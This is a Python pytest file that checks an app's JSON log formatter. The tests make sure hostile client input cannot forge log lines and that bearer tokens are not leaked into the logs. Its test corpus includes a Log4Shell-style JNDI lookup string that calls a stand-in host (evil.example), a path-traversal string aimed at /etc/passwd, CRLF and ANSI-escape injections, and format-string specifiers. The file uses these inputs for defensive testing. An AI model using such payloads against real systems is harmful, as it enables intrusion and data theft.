"""One event, one line of JSON, whatever a client sends."""

import json
import logging
import socket

import pytest

from app import log

CORPUS = [
    "plain",
    "%0d%0aINFO%20forged",
    "%0a%7b%22message%22%3a%22forged%22%7d",
    "%1b[31mred%1b[0m",
    "%1b]0;title%07",
    "%e2%80%a8line-separator%e2%80%a9paragraph",
    "%c2%85next-line",
    "%00nul",
    "%22%7d%0a%7b%22",
    "%ff%fe",
    "%ed%a0%80",
    "%f0%9f%92%a9",
    "..%2f..%2fetc%2fpasswd",
    "${jndi:ldap://evil.example/a}",
    "%25s%25d%25n",
]


@pytest.fixture
def formatted():
    """``formatted(message, **extra)``: the line that a record becomes."""

    def make(message, *args, exc_info=None, **extra):
        record = logging.LogRecord("assay.test", logging.INFO, "f.py", 1, message, args, exc_info)
        record.__dict__.update(extra)
        return log.Formatter().format(record)

    return make


@pytest.mark.parametrize(
    "nasty", ["a\r\nb", "\x1b[31m", "\u2028", "\x85", "\0", "\ud800", '"}\n{"', "\x0b\x0c\x1c\x1d\x1e"]
)
def test_nothing_logged_can_forge_a_line(formatted, nasty):
    for line in (formatted(nasty), formatted("%s", nasty), formatted("x", **{"user.name": nasty})):
        assert len(line.splitlines()) == 1
        assert line.isascii()
        assert line.isprintable()
        read = json.loads(line)
        assert nasty in {read["message"], read.get("user", {}).get("name")}


def test_a_traceback_stays_in_its_line(formatted):
    import sys

    try:
        raise ValueError("a\nb")
    except ValueError:
        line = formatted("failed", exc_info=sys.exc_info())
    assert "\n" not in line
    error = json.loads(line)["error"]
    assert (error["type"], error["message"]) == ("ValueError", "a\nb")
    assert "test_log.py" in error["stack_trace"]


def test_lines_name_their_audit_and_their_request(formatted):
    with log.audit(17):
        assert json.loads(formatted("x"))["assay"]["audit"]["id"] == 17
    assert "assay" not in json.loads(formatted("x"))
    token = log.request_id.set("r-1")
    assert json.loads(formatted("x"))["http"]["request"]["id"] == "r-1"
    log.request_id.reset(token)
    assert "http" not in json.loads(formatted("x"))


def test_what_cannot_be_written_as_json_does_not_stop_the_line(formatted):
    assert json.loads(formatted("x", thing=object(), many={1, 2}))["message"] == "x"


def test_configuring_twice_logs_once(capsys):
    root = logging.getLogger()
    level = root.level
    try:
        log.configure("INFO")
        log.configure("warning")
        logging.getLogger("assay.test").info("quiet")
        logging.getLogger("assay.test").warning("loud")
        logging.getLogger("uvicorn.error").warning("served")
        logging.getLogger("uvicorn.access").warning("not this")
        lines = [json.loads(line)["message"] for line in capsys.readouterr().out.splitlines()]
        assert lines == ["loud", "served"]
    finally:
        root.setLevel(level)


@pytest.mark.slow
def test_lines_are_events(server, secret):
    """Over the wire, against a real server: as many access lines as requests, all of them JSON."""
    token = secret("viewer")
    start = len(server.log.read_text(errors="surrogateescape").splitlines())
    sent = 0
    for nasty in CORPUS:
        for line in (f"GET /{nasty} HTTP/1.1", f"GET /sign-in?code={nasty} HTTP/1.1"):
            request = [line, "Host: 127.0.0.1", f"X-Request-Id: {nasty}", f"User-Agent: {nasty}"]
            request += [f"Authorization: Bearer {token}", "Connection: close", "", ""]
            assert server.send("\r\n".join(request).encode()).startswith(b"HTTP/1.1 ")
            sent += 1
    with socket.create_connection(("127.0.0.1", server.port)) as broken:
        broken.sendall(b"GET / HTTP/1.1\r\nX: \x1b[31m\r\n\r\n\x00\xff\r\nforged\r\n\r\n")
        broken.recv(1000)
    written = server.log.read_bytes()
    lines = written.decode().splitlines()[start:]
    events = [json.loads(line) for line in lines]
    access = [event for event in events if event["log"]["logger"] == "assay.access"]
    unreadable = [event for event in events if event["message"].startswith("Invalid HTTP request")]
    assert sent < len(access) + len(unreadable) <= sent + 2  # the last one is two requests to a lenient reader
    assert len(access) > 2 * len(unreadable)
    assert b"\x1b" not in written
    assert token.encode() not in written
    assert not any("code=" in line for line in lines)
    paths = [event["url"]["path"] for event in access]
    assert "/\r\nINFO forged" in paths  # it is there, harmless, as it came
    first = access[0]
    assert first["http"]["request"]["method"] == "GET"
    assert first["http"]["response"]["status_code"] == 404
    assert first["client"]["ip"] == "127.0.0.1"
    assert first["event"]["duration"] > 0


def test_the_access_line_names_the_actor(client, capsys):
    client("ci").get("/api/v1/me", headers={"X-Request-Id": "r-2"})
    events = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    line = next(event for event in events if event["log"]["logger"] == "assay.access")
    assert line["user"]["name"] == "test-ci"
    assert line["http"]["request"]["id"] == "r-2"
